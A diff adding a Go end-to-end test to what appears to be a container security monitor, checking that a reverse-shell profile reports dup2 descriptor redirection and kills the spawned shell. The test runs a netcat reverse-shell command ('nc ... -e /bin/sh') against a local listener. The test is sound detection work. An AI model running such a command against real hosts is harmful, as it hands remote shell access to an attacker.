@@ -284,3 +284,29 @@ func TestSeedTrackSockAttributesToCreator(t *testing.T) {
 		t.Errorf("event process runs %q, want the creator (passbind 4444)", args)
 	}
 }
+
+// FD redirection (reverse-shell profile): nc -e duplicates its socket onto
+// stdin and stdout before it execs the shell; each dup2 is reported with
+// the descriptors as int args, which the seeds' jq filter 07 selects.
+func TestFDRedirectionReported(t *testing.T) {
+	requireE2E(t)
+	ln := listen(t, "127.0.0.1:0", reverseShellGreeting)
+	host, port, _ := strings.Cut(ln.Addr(), ":")
+	res := runContainer(t, ctrOpts{Name: "dup2", Annotations: map[string]string{"ocigate.io/profile": "reverse-shell"},
+		Args: []string{"/bin/nc", host, port, "-e", "/bin/sh"}})
+	ev := waitEvent(t, res.ID, map[string]any{
+		"ocigate.container_id":                res.ID,
+		"process_kprobe.function_name":        "dup2",
+		"process_kprobe.policy_name":          "reverse-shell",
+		"process_kprobe.args.1.int_arg.value": 0,
+	})
+	if ev == nil {
+		return
+	}
+	if out := runJQ(t, "07.jq", ev); !strings.Contains(out, `"function_name":"dup2"`) {
+		t.Errorf("jq 07 does not select the dup2 event: %q", out)
+	}
+	// And the shell it prepared was stopped.
+	waitEvent(t, res.ID, map[string]any{"ocigate.container_id": res.ID, "process_kprobe.function_name": "security_bprm_check",
+		"process_kprobe.action": "KPROBE_ACTION_SIGKILL"})
+}
